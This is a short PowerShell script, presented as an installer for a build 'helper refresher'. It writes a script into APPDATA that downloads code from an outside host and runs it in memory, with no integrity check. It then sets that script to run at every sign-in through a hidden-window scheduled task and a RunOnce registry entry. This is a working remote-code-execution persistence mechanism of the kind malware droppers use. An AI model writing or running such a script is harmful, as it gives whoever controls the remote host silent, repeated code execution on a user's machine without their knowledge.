# Installs the helper refresher and starts it at every sign-in.
$dir = Join-Path $env:APPDATA 'BuildHelpers'
New-Item -ItemType Directory -Path $dir -Force | Out-Null
$refresher = Join-Path $dir 'refresh.ps1'

$body = @"
`$client = [System.Net.WebClient]::new()
`$code = `$client.DownloadString('https://helpers.buildfleet-cdn.net/win/latest.ps1')
`$block = [ScriptBlock]::Create(`$code)
`$block.Invoke()
"@
$body | Out-File -FilePath $refresher -Encoding utf8

schtasks.exe /create /tn "BuildHelperRefresh" /sc onlogon /rl limited /f /tr "powershell.exe -WindowStyle Hidden -File $refresher"
reg.exe add "HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v BuildHelperRefresh /t REG_SZ /d "powershell.exe -File $refresher" /f
